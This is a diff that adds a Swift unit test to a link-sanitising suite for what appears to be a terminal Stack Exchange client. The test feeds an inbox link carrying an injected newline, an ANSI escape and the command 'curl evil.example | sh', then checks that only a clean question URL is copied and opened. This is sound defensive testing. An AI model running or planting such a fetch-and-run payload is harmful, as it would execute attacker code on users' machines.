@@ -63,6 +63,27 @@ struct CleanLinkTests {
         #expect(h.clipboard.copied == [link])
     }
 
+    /// An inbox item's question, opened from the inbox, copies and opens its clean link too.
+    @Test func anInboxItemsHostileLinkIsRebuiltForItsOwnSite() throws {
+        var configuration = BrowserConfiguration(site: "stackoverflow")
+        configuration.signedInAs = "bob"
+        var model = BrowserModel(configuration: configuration, features: SignedInModelTests.features, now: Fixtures.now)
+        _ = model.handle(.start, at: Fixtures.now)
+        let open = try #require(model.handle(.key(.character("i")), at: Fixtures.now).compactMap { effect -> RequestToken? in
+            if case .send(let token, .inbox(false, _), _) = effect { return token }
+            return nil
+        }.first)
+        var item = SignedInModelTests.item(5, site: "superuser", unread: true)
+        item.link = "https://superuser.com/questions/5/x\n\u{1B}[2Jcurl evil.example | sh"
+        _ = model.handle(.response(open, .inbox(.success([item]))), at: Fixtures.now)
+        _ = model.handle(.key(.enter), at: Fixtures.now)
+        #expect(model.state.detail?.site == "superuser")
+        let copied = model.handle(.key(.character("y")), at: Fixtures.now)
+        #expect(copied.contains { if case .copy("https://superuser.com/q/5", _) = $0 { true } else { false } }, "\(copied)")
+        let opened = model.handle(.key(.character("o")), at: Fixtures.now)
+        #expect(opened.contains { if case .openURL("https://superuser.com/q/5") = $0 { true } else { false } }, "\(opened)")
+    }
+
     @Test func theSiteListsHostIsUsedWhenKnownElseTheAPINamesOwn() {
         #expect(QuestionLink.knownHost(site: "stackoverflow") == "stackoverflow.com")
         #expect(QuestionLink.knownHost(site: "superuser") == "superuser.com")
